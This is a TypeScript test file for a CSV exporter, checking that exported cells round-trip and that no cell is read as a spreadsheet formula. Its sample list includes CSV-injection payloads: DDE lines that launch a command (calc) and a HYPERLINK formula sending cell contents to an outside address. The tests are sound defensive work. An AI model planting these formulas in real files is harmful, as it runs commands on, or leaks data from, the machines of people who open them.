import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cellOf, csvOf } from '../../server/export/csv.ts'
import { hostileTexts } from '../pdf/hostile.ts'
import { formulasIn, readCsv, textIn } from './read-csv.ts'

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  "'=1",
  "''=1",
  "it's",
  "'quoted'",
  "=cmd|' /C calc'!A0",
  "a;=cmd|' /C calc'!A0;b",
  '- bread\n- milk',
  'a\r\n=1',
  'a\t@b',
  'y;"=1+1;z',
  '\'"=1',
  '"""-1',
  '=HYPERLINK("http://192.0.2.1/?"&A1,"here")',
]

/** Rows as they are read again. */
const again = (rows: readonly (readonly string[])[]) =>
  readCsv(csvOf({ head: ['Name', 'Answer'], rows }))
    .slice(1)
    .map((row) => row.map(textIn))

describe('a table as a file', () => {
  it('D80: comes back text by text, whatever people wrote', () => {
    const texts = [...formulas, ...hostileTexts, 'a,b', '"', '""', 'a "b", c', 'x\n', ' x '].map(
      (text) => Buffer.from(text).toString(), // half characters are none in any file
    )
    const rows = texts.map((text) => ['Ruth', text])
    expect(again(rows)).toEqual(rows)
  })

  it('D80: any texts come back', () => {
    const text = fc.string({ unit: fc.constantFrom(...`'=+-@\t\r\n;,"＝＠a \0\ufeff😀ם`) })
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 40, maxLength: 40 }), (rows) => {
        expect(again(rows)).toEqual(rows)
        expect(formulasIn(csvOf({ head: ['a', 'b'], rows }))).toEqual([])
      }),
      { numRuns: 20 },
    )
  })

  it('D81: has no cell that a spreadsheet reads as a formula, by commas, semicolons or tabs', () => {
    const file = csvOf({ head: formulas, rows: [formulas] })
    expect(formulasIn(file)).toEqual([])
    expect(cellOf('=1+1')).toBe("'=1+1")
    expect(cellOf('1 = 1, -x and a@b.org')).toBe('1 = 1, -x and a@b.org')
  })

  it('D81 has teeth: a file without our mark is found out', () => {
    const bare = new TextEncoder().encode('"Name"\r\n"a;=1"')
    expect(formulasIn(bare)).toEqual(['=1"'])
    const quoted = new TextEncoder().encode('"Name"\r\n"y;""=1+1;z"')
    expect(formulasIn(quoted)).toEqual(['=1+1'])
  })

  it('D80: begins with the mark of UTF-8, ends lines as RFC 4180 wants it, and leaves numbers numbers', () => {
    const file = csvOf({
      head: ['İpek, "A"', 'n'],
      rows: [
        ['x', -3],
        ['y', null],
      ],
    })
    expect([...file.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(file)).toBe('"İpek, ""A""","n"\r\n"x",-3\r\n"y",\r\n')
  })
})
